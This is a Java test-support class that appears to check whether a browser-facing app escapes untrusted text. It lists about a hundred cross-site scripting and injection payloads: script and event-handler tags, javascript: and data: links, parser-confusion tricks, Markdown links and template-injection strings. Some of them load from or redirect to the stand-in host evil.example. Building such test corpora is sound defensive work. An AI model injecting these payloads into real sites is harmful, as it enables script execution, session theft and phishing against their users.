// SPDX-License-Identifier: Apache-2.0
package touchstone.browser;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that would run a script, add an element or send for something if a page took them for more
 * than text. Each has a harmless twin of the same letters and the same shape.
 */
final class HostilePayloads {
  private static final String RUN = "top.__pwn()";

  /** All of them, each different. */
  static final List<String> ALL =
      List.of(
          // elements with scripts and handlers
          "<script>RUN</script>",
          "<ScRiPt>RUN</sCrIpT>",
          "<script src=https://evil.example/x.js></script>",
          "<script type=module>RUN</script>",
          "<img src=x onerror=RUN>",
          "<img src=x onerror=\"RUN\" alt='",
          "<IMG SRC=/x OnErRoR = RUN //",
          "<img/src=`x`onerror=RUN>",
          "<svg onload=RUN>",
          "<svg/onload=RUN//",
          "<svg><script>RUN</script></svg>",
          "<svg><animate onbegin=RUN attributeName=x dur=1s>",
          "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
          "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN>#x\">",
          "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
          "<body onload=RUN>",
          "<body onpageshow=RUN>",
          "<details open ontoggle=RUN>x</details>",
          "<video><source onerror=RUN></video>",
          "<audio src=x onerror=RUN autoplay>",
          "<input autofocus onfocus=RUN>",
          "<select autofocus onfocus=RUN><option>x</select>",
          "<marquee onstart=RUN>x</marquee>",
          "<div style=animation-name:x onanimationstart=RUN>x</div>",
          "<p tabindex=1 autofocus onfocus=RUN popover>x",
          "<custom-element onfocusin=RUN tabindex=0 autofocus>x",
          // frames, objects, forms, addresses
          "<iframe srcdoc='<script>RUN</script>'></iframe>",
          "<iframe src=javascript:RUN></iframe>",
          "<iframe src=\"data:text/html,<script>RUN</script>\">",
          "<frameset onload=RUN><frame src=x>",
          "<object data=javascript:RUN></object>",
          "<object data='data:text/html;base64,PHNjcmlwdD50b3AuX19wd24oKTwvc2NyaXB0Pg=='>",
          "<embed src=javascript:RUN>",
          "<base href=https://evil.example/>",
          "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
          "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<link rel=prefetch href=//evil.example/p><link rel=dns-prefetch href=//evil.example>",
          "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
          "<p style=\"background:url(https://evil.example/b);width:expression(RUN)\">x</p>",
          "<form action=https://evil.example/><button autofocus>Sign in</button>",
          "<form id=answer><input name=attributes><input name=page.flagged>",
          "<button formaction=javascript:RUN type=submit form=answer>x</button>",
          "<a href=javascript:RUN>x</a>",
          "<a href='jAvAsCrIpT:RUN' target=_blank>x</a>",
          "<a href=\"java&#x09;script&colon;RUN\">x</a>",
          "<a href='data:text/html,<script>opener.__pwn()</script>' download>x</a>",
          "<a id=texts href=//evil.example>x</a><p id=main class=label-page data-project=x>",
          // parsers at odds with each other
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=RUN>\">",
          "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
          "<template><img src=x onerror=RUN></template><template shadowrootmode=open><script>RUN</script>",
          "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
          "<!--><script>RUN</script-->",
          "<![CDATA[><img src=x onerror=RUN>]]>",
          "<?xml-stylesheet href=javascript:RUN ?><x xmlns:x='http://www.w3.org/1999/xhtml'>",
          "<xmp><plaintext><listing></xmp><img src=x onerror=RUN>",
          // out of an attribute, out of another element
          "\"><script>RUN</script>",
          "'><img src=x onerror=RUN>",
          "\" onfocus=RUN autofocus tabindex=1 x=\"",
          "' onmouseover=RUN style='position:fixed;inset:0",
          "` onclick=RUN `",
          "x onpointerenter=RUN",
          "</script><script>RUN</script>",
          "</title><script>RUN</script>",
          "</textarea><img src=x onerror=RUN>",
          "</option></select><img src=x onerror=RUN>",
          "</iframe><script>RUN</script>",
          "\\\"});RUN;({\"",
          "]]>--><svg onload=RUN>",
          "&lt;script&gt;RUN&lt;/script&gt;",
          "&#60;img src=x onerror=RUN&#62;",
          "%3Cscript%3ERUN%3C/script%3E",
          "\u003cscript\u003eRUN\u003c/script\u003e\u2028RUN\u2029//",
          "\ufeff<scr\u200bipt>RUN</scr\u200bipt>",
          "\u202eRUN\u202c \u2066<script>RUN</script>\u2069",
          "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
          // Markdown
          "[x](javascript:RUN)",
          "[x](JaVa\tScRiPt:RUN \"x\")",
          "[x](&#106;avascript:RUN)",
          "[x](data:text/html;base64,PHNjcmlwdD50b3AuX19wd24oKTwvc2NyaXB0Pg==)",
          "[x](https://evil.example/\"onmouseover=\"RUN)",
          "![x](javascript:RUN)",
          "![\" onerror=\"RUN](https://evil.example/i.png)",
          "![x](/media/../sign-out \"\\\" onload=RUN\")",
          "<javascript:RUN>",
          "<data:text/html,<script>RUN</script>>",
          "[x]: javascript:RUN\n\n[x] [x][]",
          "`</code><script>RUN</script>`",
          "```x\" onload=RUN\n</pre><script>RUN</script>\n```",
          "<div markdown=1>[x](javascript:RUN)</div>",
          "# <img src=x onerror=RUN> {#x onclick=RUN}",
          // template languages
          "{str:eval('RUN')}",
          "{inject:page.nonce}{cdi:page.login}{config:property('quarkus.http.port')}",
          "{#include web/shell}{#main}<script>RUN</script>{/main}{/include}",
          "{|<script>RUN</script>|}{m:web_menu}{{constructor.constructor('RUN')()}}",
          "${RUN} #{RUN} <%= RUN %> {{RUN}} {0} {0, select, other {#}} '{'");

  private HostilePayloads() {}

  /** One of them, with a word of its own after it so that names made of it differ. */
  static String hostile(int number) {
    return ALL.get(number).replace("RUN", RUN) + " n" + number;
  }

  /** The same without anything but letters, digits and blanks. */
  static String harmless(int number) {
    return hostile(number).replaceAll("[^a-zA-Z0-9 \\n\\t]", "x");
  }

  /** Names of at most so many characters that between them hold each text that fits. */
  static List<String> names(List<String> texts, int most) {
    List<String> names = new ArrayList<>();
    StringBuilder name = new StringBuilder();
    for (String text : texts) {
      if (text.length() > most) {
        continue;
      }
      if (name.length() + 1 + text.length() > most) {
        names.add(name.toString());
        name.setLength(0);
      }
      name.append(name.length() == 0 ? "" : " ").append(text);
    }
    names.add(name.toString());
    return names;
  }
}
